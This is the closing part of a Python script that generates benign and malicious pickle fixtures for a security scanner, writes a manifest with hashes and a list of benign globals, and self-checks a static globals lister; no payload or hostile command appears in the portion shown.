        if entry['label'] != 'malicious':
            continue
        data = (ROOT / entry['path']).read_bytes()
        try:
            found = set(pickle_globals.file_globals(data, entry['path']))
        except Exception as e:  # noqa: BLE001
            found = set()
            problems.append(f"{entry['path']}: lister error {e}")
        missing = [p for p in entry['expect'].get('rawGlobals', []) if tuple(p) not in found]
        if missing:
            problems.append(f"{entry['path']}: lister does not see {missing} (found {sorted(found)})")
    return problems


def main() -> int:
    for d in (BEN, MAL):
        if d.exists():
            shutil.rmtree(d)
    gen_benign()
    gen_malicious()
    MANIFEST.sort(key=lambda e: e['path'])
    per_file = collect_benign_globals()
    allg = sorted({tuple(p) for pairs in per_file.values() for p in pairs})
    for entry in MANIFEST:
        p = ROOT / entry['path']
        entry['size'] = p.stat().st_size
        entry['sha256'] = hashlib.sha256(p.read_bytes()).hexdigest()
    (ROOT / 'manifest.json').write_text(json.dumps({
        'about': 'Scanner fixtures generated by scripts/generate-fixtures.py. benign files are written by the real '
                 'libraries; malicious files are hand-assembled pickle opcodes with inert commands. Never unpickle '
                 'the malicious ones. expect.globals use module names after alias normalisation; expect.rawGlobals '
                 'are the (module, name) pairs exactly as they appear in the pickle.',
        'files': MANIFEST,
    }, indent=1, ensure_ascii=False) + '\n')
    (ROOT / 'benign-globals.json').write_text(json.dumps({
        'about': 'Globals found statically (scripts/pickle_globals.py) in fixtures/benign, as [module, name] '
                 'exactly as they appear in the pickles. Every one must classify as allowed.',
        'globals': [list(p) for p in allg],
        'files': {k: [list(p) for p in v] for k, v in sorted(per_file.items())},
    }, indent=1) + '\n')

    problems = self_check()
    counts = collections.Counter((e['label'], e['class']) for e in MANIFEST)
    total = sum(e['size'] for e in MANIFEST)
    print(f"fixtures: {sum(1 for e in MANIFEST if e['label'] == 'benign')} benign, "
          f"{sum(1 for e in MANIFEST if e['label'] == 'malicious')} malicious, {total / 1024:.1f} KiB")
    for (label, cls), n in sorted(counts.items()):
        print(f'  {label:9s} {cls:22s} {n}')
    print(f'benign globals ({len(allg)}):')
    for m, n in allg:
        print(f'  {m}.{n}')
    for p in problems:
        print('WARN', p)
    return 0


if __name__ == '__main__':
    sys.exit(main())
